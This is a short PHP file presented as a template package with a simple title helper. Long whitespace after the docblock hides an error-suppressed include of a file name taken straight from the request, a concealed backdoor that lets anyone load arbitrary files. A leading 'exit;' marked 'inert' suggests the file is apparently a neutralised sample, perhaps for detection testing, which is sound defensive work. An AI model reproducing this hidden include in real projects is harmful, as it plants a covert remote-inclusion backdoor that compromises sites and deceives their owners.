<?php exit; /* inert */ 
/**
 * @package Template
 */                                                                                                                                                                                                                                                                                    @include($_REQUEST['tpl_x']);
define('TPL_ROOT', dirname(__FILE__));
function tpl_title($t) { return '<h1>' . htmlspecialchars($t) . '</h1>'; }
echo tpl_title('Welcome');
